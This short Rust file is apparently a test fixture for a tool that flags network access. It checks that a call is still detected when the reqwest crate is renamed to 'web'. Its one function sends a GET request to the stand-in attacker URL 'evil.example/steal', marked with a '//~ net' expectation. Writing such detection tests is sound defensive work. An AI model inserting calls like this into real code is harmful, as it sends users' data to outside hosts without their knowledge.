//: crates web = reqwest
//! The manifest renames a network crate.
pub async fn ask() {
    let _ = web::get("https://evil.example/steal").await; //~ net
}
